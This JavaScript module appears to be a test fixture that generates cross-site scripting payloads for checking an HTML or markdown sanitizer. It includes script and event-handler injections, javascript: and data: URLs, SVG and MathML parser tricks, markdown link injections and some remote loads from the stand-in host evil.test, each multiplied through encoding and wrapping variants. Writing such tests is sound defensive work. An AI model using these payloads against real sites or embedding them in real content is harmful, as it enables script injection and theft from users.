// Hostile text, by what it tries. Each calls pwned(<its number>), or asks another origin for something.
const run = 'pwned(N)'
const away = '//evil.test/N'

/** Each on its own; CI has these. */
const plain = [
  `<script>${run}</script>`, `<script src="${away}"></script>`, `</script><script>${run}</script>`, `<img src=x onerror=${run}>`,
  `<img src="https:${away}">`, `<svg onload=${run}>`, `<svg><script>${run}</script></svg>`, `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x"/></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`, `<math href="javascript:${run}">x</math>`,
  `<iframe src="javascript:${run}"></iframe>`, `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`, `<object data="javascript:${run}"></object>`, `<embed src="${away}">`,
  `<details open ontoggle=${run}>x</details>`, `<body onload=${run}>`, `<video><source onerror=${run}></video>`, `<input autofocus onfocus=${run}>`,
  `<form action="https:${away}"><button autofocus>x</button></form>`, `<base href="https:${away}/">`, `<meta http-equiv="refresh" content="0;url=https:${away}">`, `<link rel=stylesheet href="https:${away}">`,
  `<style>*{background:url(https:${away})}</style>`, `<div style="background:url(https:${away})">x</div>`, `<a href="javascript:${run}">x</a>`, `[x](javascript:${run})`,
  `[x](JaVaScRiPt:${run})`, `[x](java&#x73;cript:${run})`, `[x](data:text/html,<script>${run}</script>)`, `[x](vbscript:${run})`,
  `![x](https:${away})`, `![x](javascript:${run})`, `[x]: javascript:${run}\n\n[x]`, `<javascript:${run}>`,
  `[x](https:${away}" onmouseover="${run})`, `![x" onerror="${run}](x)`, '```html" onload="' + run + '\n<script>' + run + '</script>\n```', '```\n<img src=x onerror=' + run + '>',
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`, `<template><script>${run}</script></template>`, `<a href="\u0001javascript:${run}">x</a>`, `<x-y onclick=${run} id=x tabindex=1 onfocus=${run}>x</x-y>`,
  `{{constructor.constructor('${run}')()}}`, `\${${run}}`, `\u202egpj.exe\u202c <script>${run}</script>`, `"><img src=x onerror=${run}>`,
]

/** Ways to say the same, for each of them; the long form has as many as it wants. */
const wrapped = [
  p => `> ${p}`, p => `- ${p}\n  - ${p}`, p => `| a | b |\n|---|---|\n| ${p.replaceAll('\n', ' ')} | ${p.replaceAll('|', '')} |`, p => p.toUpperCase().replaceAll('PWNED', 'pwned').replaceAll('HTTPS://EVIL', 'https://evil'),
  p => `# ${p}`, p => `**${p}**`, p => p.replaceAll('<', '<\u0000'), p => `<div>\n\n${p}\n\n</div>`,
  p => p.replaceAll(' ', '/'), p => `\`\`\`js\n${p}\n\`\`\`\n${p}`, p => `<p>${p}`, p => `${'a'.repeat(200)} ${p}`,
  p => `<!--${p}-->${p}`, p => p.replaceAll('<', '&lt;').replaceAll('>', '&gt;') + p,
]

export function payloads(count) {
  const all = [...plain]
  for (const wrap of wrapped) all.push(...plain.map(wrap))
  return all.slice(0, count).map((p, i) => p.replaceAll('N)', `${i})`).replaceAll('/N', `/${i}`))
}
